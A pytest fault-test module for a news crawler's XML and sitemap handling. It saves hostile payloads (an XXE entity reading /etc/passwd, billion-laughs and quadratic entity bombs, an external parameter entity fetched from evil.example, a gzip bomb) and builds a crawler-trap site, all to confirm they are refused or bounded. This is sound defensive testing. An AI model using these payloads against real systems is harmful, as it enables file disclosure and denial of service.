"""Fault catalogue D1–D7 (untrusted XML and crawler traps): saved payloads and one crawl."""

from __future__ import annotations

import time
import tracemalloc
import zlib
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest

from cityfeeds.status.health import SourceInputs, source_status
from crawler.config.sections import CrawlSpec
from crawler.discovery import (
    MAX_SITEMAP_BYTES,
    DiscoveryError,
    UnsafeXMLError,
    parse_feed,
    parse_sitemap,
)
from crawler.discovery.safe_xml import parse_xml
from crawler.spiders.news import MAX_SITEMAP_DEPTH
from tests.faults.support import CrawlResult, Lab, article_html, dropped, html_route, rss

pytestmark = [pytest.mark.fault]

NOW = datetime(2026, 11, 26, tzinfo=UTC)
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title><item><title>&xxe;</title><link>http://x.example/1</link></item></channel></rss>"""
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]><rss><channel><item><title>&lol9;</title><link>http://x.example/1</link></item></channel></rss>"
)
QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "'
    + b"A" * 200
    + b'">]><rss><channel><item><title>'
    + b"&a;" * 20000
    + b"</title><link>http://x.example/1</link></item></channel></rss>"
)
INTERNAL = b"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE feed [<!ENTITY base "tag:news.example,2024:"> <!ENTITY site "https://news.example">]>
<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>
<entry><id>&base;1</id><title>Entity &amp; title</title>
<link href="&site;/news/1"/></entry></feed>"""
NESTED_INTERNAL = b"""<?xml version="1.0"?>
<!DOCTYPE feed [<!ENTITY a "x"><!ENTITY b "&a;&a;">]>
<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>&b;</id><link href="https://news.example/1"/></entry></feed>"""


def _gzip_zeros(size: int) -> bytes:
    comp = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    block = b"\0" * (1024 * 1024)
    return b"".join(comp.compress(block) for _ in range(size // len(block))) + comp.flush()


def _padded_sitemap(base: str, paths: list[str], size: int) -> bytes:
    """A valid sitemap of ``size`` bytes listing ``paths``: whitespace makes up the rest."""
    items = "".join(f"<url><loc>{base}{p.lstrip('/')}</loc></url>" for p in paths)
    head = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{items}'
    ).encode()
    tail = b"</urlset>"
    return head + b"\n" * (size - len(head) - len(tail)) + tail


def _gzip(data: bytes) -> bytes:
    comp = zlib.compressobj(1, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    return comp.compress(data) + comp.flush()


def _sitemap_index(base: str, targets: list[str]) -> bytes:
    items = "".join(f"<sitemap><loc>{base}{t}</loc></sitemap>" for t in targets)
    return f'<?xml version="1.0"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{items}</sitemapindex>'.encode()


def _urlset(urls: list[str]) -> bytes:
    items = "".join(f"<url><loc>{u}</loc></url>" for u in urls)
    return f'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{items}</urlset>'.encode()


# -- parser level (saved payloads) -----------------------------------------------------------


def test_d1_xxe_not_resolved() -> None:
    with pytest.raises(UnsafeXMLError):
        parse_feed(XXE, "http://x.example/", tz="Europe/Moscow", now=NOW)


@pytest.mark.parametrize("payload", [LAUGHS, QUADRATIC], ids=["billion_laughs", "quadratic"])
def test_d2_entity_expansion_rejected_fast_bounded_memory(payload: bytes) -> None:
    tracemalloc.start()
    t0 = time.perf_counter()
    with pytest.raises(UnsafeXMLError):
        parse_xml(payload)
    elapsed = time.perf_counter() - t0
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert elapsed < 0.5 and peak < 50 * 1024 * 1024


def test_d3_gzip_bomb_sitemap_capped() -> None:
    bomb = _gzip_zeros(60 * 1024 * 1024)
    assert len(bomb) < 200 * 1024
    t0 = time.perf_counter()
    with pytest.raises(UnsafeXMLError, match="larger than"):
        parse_sitemap(bomb, "http://x.example/", tz="Europe/Moscow", now=NOW)
    assert time.perf_counter() - t0 < 5


def test_d9_sitemap_parser_takes_the_protocols_50_mib() -> None:
    body = _padded_sitemap("http://x.example/", ["/news/1"], 9 * 1024 * 1024)
    links = parse_sitemap(body, "http://x.example/", tz="Europe/Moscow", now=NOW).links
    assert [lk.url for lk in links] == ["http://x.example/news/1"]
    over = _padded_sitemap("http://x.example/", ["/news/1"], MAX_SITEMAP_BYTES + 1)
    for payload in (over, _gzip(over)):
        with pytest.raises(UnsafeXMLError, match="larger than"):
            parse_sitemap(payload, "http://x.example/", tz="Europe/Moscow", now=NOW)


def test_d5_broken_feed_recovered_or_refused() -> None:
    truncated = rss("http://x.example/", ["/1", "/2"])[:-40]
    links = parse_feed(truncated, "http://x.example/", tz="Europe/Moscow", now=NOW).links
    assert [lk.url for lk in links][:1] == [
        "http://x.example/1"
    ]  # recover-parse keeps what is whole
    junk = rss("http://x.example/", ["/1"]) + b"<junk>after the root</junk>\x00\xff"
    assert [
        lk.url for lk in parse_feed(junk, "http://x.example/", tz="Europe/Moscow", now=NOW).links
    ] == ["http://x.example/1"]
    with pytest.raises(DiscoveryError):
        parse_feed(b"\x00\x01 not xml at all", "http://x.example/", tz="Europe/Moscow", now=NOW)


def test_d6_internal_entities_accepted() -> None:
    """Small internal text entities are expanded (reader#212); see crawler.discovery.safe_xml."""
    links = parse_feed(INTERNAL, "https://news.example/", tz="Europe/Moscow", now=NOW).links
    assert [lk.url for lk in links] == ["https://news.example/news/1"]
    assert links[0].title == "Entity & title"


@pytest.mark.parametrize(
    "payload",
    [
        NESTED_INTERNAL,
        XXE,
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>',
        b'<!DOCTYPE r [<!ENTITY a "' + b"x" * 1000 + b'">]><rss/>',
        b"<!DOCTYPE r [" + b"".join(b'<!ENTITY e%d "x">' % i for i in range(40)) + b"]><rss/>",
        b'<!DOCTYPE r [<!ENTITY a "<b>markup</b>">]><rss/>',
    ],
    ids=["nested", "external", "parameter", "too_long", "too_many", "markup"],
)
def test_d6_other_entities_refused(payload: bytes) -> None:
    with pytest.raises(UnsafeXMLError):
        parse_xml(payload)


# -- end to end ------------------------------------------------------------------------------


class Xml:
    def __init__(self, lab: Lab, result: CrawlResult, sites: dict[str, Any]) -> None:
        self.lab, self.result, self.sites = lab, result, sites


@pytest.fixture(scope="module")
def xml(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Xml]:
    lab = Lab(tmp_path_factory.mktemp("d_xml"))
    sites: dict[str, Any] = {}
    page = html_route(article_html("Новость из безопасно разобранной ленты"))
    page_two = html_route(
        article_html("Вторая новость обрезанной ленты", ["Совсем другой текст второй новости."])
    )
    try:
        for name, body in (("d1", XXE), ("d2", LAUGHS), ("d6_bad", NESTED_INTERNAL)):
            s = sites[name] = lab.site({"/rss.xml": html_route(body, "application/rss+xml")})
            lab.source(name, s.base)

        s = sites["d3"] = lab.site(
            {
                "/sitemap.xml.gz": (
                    200,
                    {"Content-Type": "application/x-gzip"},
                    _gzip_zeros(60 * 1024 * 1024),
                )
            }
        )
        lab.source("d3", s.base, feed=None, sitemaps=[s.base + "sitemap.xml.gz"])

        # D9: valid sitemaps larger than max_response_bytes (8 MiB): served as they are, and
        # gzip-encoded; an index leading to one; one that inflates past the protocol's 50 MiB;
        # an article page over 8 MiB listed in the big sitemap (still refused).
        big = 9 * 1024 * 1024
        assert big > CrawlSpec.model_fields["max_response_bytes"].default
        s = sites["d9"] = lab.site({"/news/1": page, "/news/2": page_two})
        s.routes["/news/huge"] = html_route(
            article_html("Огромная страница", ["Абзац огромной страницы. " * 400_000])
        )
        sitemap = _padded_sitemap(s.base, ["/news/1", "/news/huge"], big)
        s.routes["/sitemap.xml"] = html_route(sitemap, "application/xml")
        s.routes["/index.xml"] = html_route(_sitemap_index(s.base, ["gz.xml"]), "application/xml")
        s.routes["/gz.xml"] = (
            200,
            {"Content-Type": "application/xml", "Content-Encoding": "gzip"},
            _gzip(_padded_sitemap(s.base, ["/news/2"], big)),
        )
        lab.source("d9", s.base, feed=None, sitemaps=[s.base + "sitemap.xml", s.base + "index.xml"])
        s = sites["d9_over"] = lab.site()
        s.routes["/sitemap.xml"] = (
            200,
            {"Content-Type": "application/xml", "Content-Encoding": "gzip"},
            _gzip(_padded_sitemap(s.base, ["/news/1"], MAX_SITEMAP_BYTES + 1)),
        )
        lab.source("d9_over", s.base, feed=None, sitemaps=[s.base + "sitemap.xml"])

        s = sites["d4"] = lab.site()
        for i in range(50):  # index -> index -> ... 50 deep, each also pointing at itself
            s.routes[f"/sm/{i}.xml"] = html_route(
                _sitemap_index(s.base, [f"sm/{i + 1}.xml", f"sm/{i}.xml"]), "application/xml"
            )
        lab.source("d4", s.base, feed=None, sitemaps=[s.base + "sm/0.xml"])

        s = sites["d5"] = lab.site({"/news/1": page, "/news/2": page})
        s.routes["/rss.xml"] = html_route(
            rss(s.base, ["/news/1", "/news/2"])[:-60], "application/rss+xml"
        )
        s.routes["/junk.xml"] = html_route(b"\x00\x01<<not xml", "application/rss+xml")
        lab.source("d5", s.base, feeds=[s.base + "rss.xml", s.base + "junk.xml"])

        # D8: cut after two whole items, served with a matching Content-Length.
        s = sites["d8"] = lab.site({"/news/1": page, "/news/2": page_two})
        whole = rss(s.base, ["/news/1", "/news/2", "/news/3"])
        s.routes["/rss.xml"] = html_route(
            whole[: whole.index(b"<item><link>", whole.index(b"/news/2"))], "application/rss+xml"
        )
        lab.source("d8", s.base)

        s = sites["d6_ok"] = lab.site({"/news/1": page})
        s.routes["/atom.xml"] = html_route(
            INTERNAL.replace(b"https://news.example", s.base.rstrip("/").encode()),
            "application/atom+xml",
        )
        lab.source("d6_ok", s.base, feeds=[s.base + "atom.xml"])

        # D7: endless pagination, a calendar that always links to the next day, growing query
        # strings and a very long URL, all on one listing.
        s = sites["d7"] = lab.site()

        def listing(handler: Any, site: Any) -> None:
            path = handler.path
            n = int(path.rsplit("=", 1)[1]) if "page=" in path else 1
            links = [f"/2024/01/{n:02d}/next", f"/news/{n}?p=1" + "&p=1" * n, "/news/" + "x" * 3000]
            links += [f"/news/a{n}-{i}" for i in range(5)]
            body = (
                "".join(f'<a href="{u}">link</a>' for u in links)
                + f'<a class="next" href="/list?page={n + 1}">next</a>'
            )
            handler.send(
                200,
                {"Content-Type": "text/html; charset=utf-8"},
                f"<html><body>{body}</body></html>".encode(),
            )

        for n in range(1, 200):
            s.routes[f"/list?page={n}"] = listing
        s.routes["/list"] = listing
        lab.source(
            "d7",
            s.base,
            feed=None,
            listings=[{"url": s.base + "list", "next_page": "css:a.next", "max_pages": 100}],
            max_pages_per_run=5,
        )
        # The tester's source: an XXE feed, a truncated feed, a feed on a host (another port)
        # whose robots.txt answers 503, and a sitemap index linking an off-site sitemap.
        s = sites["d_causes"] = lab.site({"/news/1": page, "/news/2": page_two})
        other = sites["d_causes_other"] = lab.site(
            {"/robots.txt": (503, {}, b"down"), "/rss.xml": (200, {}, b"never asked for")}
        )
        s.routes["/xxe.xml"] = html_route(XXE, "application/rss+xml")
        whole = rss(s.base, ["/news/1", "/news/2", "/news/3"])
        s.routes["/rss.xml"] = html_route(
            whole[: whole.index(b"<item><link>", whole.index(b"/news/2"))], "application/rss+xml"
        )
        s.routes["/index.xml"] = html_route(
            _sitemap_index("", ["http://evil.example/sm.xml"]), "application/xml"
        )
        lab.source(
            "d_causes",
            s.base,
            feeds=[s.base + "xxe.xml", s.base + "rss.xml", other.base + "rss.xml"],
            sitemaps=[s.base + "index.xml"],
        )

        # A sitemap index listing an off-site sitemap next to its own.
        s = sites["d4_offsite"] = lab.site({"/news/1": page})
        s.routes["/index.xml"] = html_route(
            _sitemap_index("", ["http://evil.example/sm.xml", s.base + "sm.xml"]),
            "application/xml",
        )
        s.routes["/sm.xml"] = html_route(_urlset([s.base + "news/1"]), "application/xml")
        lab.source("d4_offsite", s.base, feed=None, sitemaps=[s.base + "index.xml"])
        result = lab.run()
        yield Xml(lab, result, sites)
    finally:
        lab.close()


@pytest.mark.slow
@pytest.mark.parametrize("case", ["d1", "d2"])
def test_d1_d2_source_marked_bad(xml: Xml, case: str) -> None:
    run = xml.result.runs[case]
    assert run["status"] == "failed" and dropped(run) == {"unsafe_xml": 1}
    store = xml.result.store()
    try:
        for article in store.newest_articles(limit=1000):
            assert "root:" not in article.title + article.text  # no file content in the DB
    finally:
        store.close()


@pytest.mark.slow
def test_d3_gzip_bomb_sitemap_end_to_end(xml: Xml) -> None:
    run = xml.result.runs["d3"]
    assert run["status"] == "failed" and dropped(run) == {"unsafe_xml": 1}


@pytest.mark.slow
def test_d9_a_sitemap_over_max_response_bytes_is_read(xml: Xml) -> None:
    """A 10.8 MB sitemap failed its source ("too large (> 8 MiB)"): sitemaps and sitemap
    indexes may have the protocol's 50 MiB, plain or gzip-encoded; article pages may not."""
    run = xml.result.runs["d9"]
    assert run["status"] == "ok", run
    titles = sorted(a.title for a in xml.result.articles("d9"))
    assert titles == sorted(
        ["Новость из безопасно разобранной ленты", "Вторая новость обрезанной ленты"]
    )
    assert dropped(run) == {"too_large": 1}  # /news/huge: pages keep max_response_bytes
    assert xml.sites["d9"].hits("/news/huge") == 1


@pytest.mark.slow
def test_d9_a_sitemap_over_50_mib_is_refused_with_its_limit(xml: Xml) -> None:
    run = xml.result.runs["d9_over"]
    assert run["status"] == "failed" and dropped(run) == {"too_large": 1}
    assert run["message"] == f"too large (> 50 MiB): {xml.sites['d9_over'].base}sitemap.xml"


@pytest.mark.slow
def test_d4_sitemap_recursion_capped(xml: Xml) -> None:
    run = xml.result.runs["d4"]
    site = xml.sites["d4"]
    fetched = sorted({p for _, p, _ in site.log if p.startswith("/sm/")})
    assert fetched == [f"/sm/{i}.xml" for i in range(MAX_SITEMAP_DEPTH + 1)]
    assert all(site.hits(p) == 1 for p in fetched)  # self-references not fetched again
    assert dropped(run) == {"sitemap_depth": 1}


@pytest.mark.slow
def test_d5_broken_feed_does_not_crash(xml: Xml) -> None:
    run = xml.result.runs["d5"]
    assert run["status"] == "ok" and run["new"] >= 1  # recovered what was whole
    assert dropped(run).get("bad_feed") == 1  # the junk one is counted and logged
    assert xml.result.outcome.returncode == 0


@pytest.mark.slow
def test_d6_internal_entities_both_outcomes_end_to_end(xml: Xml) -> None:
    ok, bad = xml.result.runs["d6_ok"], xml.result.runs["d6_bad"]
    assert ok["status"] == "ok" and ok["new"] == 1
    assert bad["status"] == "failed" and dropped(bad) == {"unsafe_xml": 1}


@pytest.mark.slow
def test_d7_crawler_trap_bounded(xml: Xml) -> None:
    run = xml.result.runs["d7"]
    site = xml.sites["d7"]
    listing_pages = [p for _, p, _ in site.log if p.startswith("/list")]
    # The page cap stops the pagination first: its first page gives the run's five articles
    # (a listing's next page is the same listing for the depth limit, so that is no bound).
    assert len(listing_pages) == 1
    articles = [p for _, p, _ in site.log if not p.startswith("/list") and p != "/robots.txt"]
    assert len(articles) <= 5  # per-run page cap
    assert run["stats"]["skipped/page_cap"] > 0
    assert max(len(p) for p in articles) < 2048  # URLLENGTH_LIMIT
    assert xml.result.duration < 60


@pytest.mark.slow
def test_d8_truncated_feed_is_flagged_warned_and_degraded(xml: Xml) -> None:
    """A feed cut mid-document with a matching Content-Length was an "ok" run with half its
    items; now the run says so (``feed_recovered``), the log warns and ``status`` degrades."""
    run = xml.result.runs["d8"]
    assert run["status"] == "ok" and run["new"] == 2  # what was whole is kept
    assert run["stats"]["feed_recovered"] is True and run["stats"]["recovered"] == {"feed": 1}
    assert "feed read in part" in run["message"]
    log = xml.lab.log_text()
    assert "[d8] feed is not well-formed XML" in log and "WARNING" in log
    now = run["finished_at"]
    row = source_status(SourceInputs("d8", True, 3600, [run], {}), now)
    assert row.state == "degraded" and "not well-formed" in row.reasons[0]


@pytest.mark.slow
def test_d4_offsite_sitemap_in_an_index_is_skipped_not_an_error(xml: Xml) -> None:
    """An index's sitemap on another site is skipped as off-site, like an off-site feed entry:
    not "robots.txt unreachable" for that host, no error, no note in the run's message."""
    run = xml.result.runs["d4_offsite"]
    assert run["status"] == "ok" and run["new"] == 1
    assert run["errors"] == 0 and dropped(run) == {}
    assert run["stats"]["skipped/offsite"] == 1
    assert "robots_unavailable" not in run["stats"] and run["message"] is None
    assert "evil.example" not in "".join(
        ln for ln in xml.lab.log_text().splitlines() if "robots.txt" in ln
    )


@pytest.mark.slow
def test_d1_d8_a12_each_discovery_failure_named_with_its_own_url(xml: Xml) -> None:
    """The run's message said "robots.txt unreachable: <this host>/robots.txt" (a robots.txt
    that answered 200) and left out the XXE refusal; each cause now names its own document."""
    run = xml.result.runs["d_causes"]
    site, other = xml.sites["d_causes"], xml.sites["d_causes_other"]
    assert run["status"] == "ok" and run["new"] == 2
    assert dropped(run) == {"unsafe_xml": 1, "robots_unavailable": 1}
    assert run["errors"] == 1 and run["stats"]["skipped/offsite"] == 1
    message = run["message"]
    assert message.startswith("2 discovery document(s) not read: "), message
    assert f"unsafe XML (entity expansion or external entities): {site.base}xxe.xml" in message
    assert f"robots.txt unreachable (HTTP 503): {other.base}robots.txt" in message
    assert f"{site.base}robots.txt" not in message and "evil.example" not in message
    assert "feed read in part" in message
    causes = run["stats"]["causes"]
    assert {"url": f"{site.base}xxe.xml", "error": "unsafe_xml"} in causes
    assert {
        "url": f"{other.base}robots.txt",
        "error": "robots_unavailable",
        "status": 503,
    } in causes
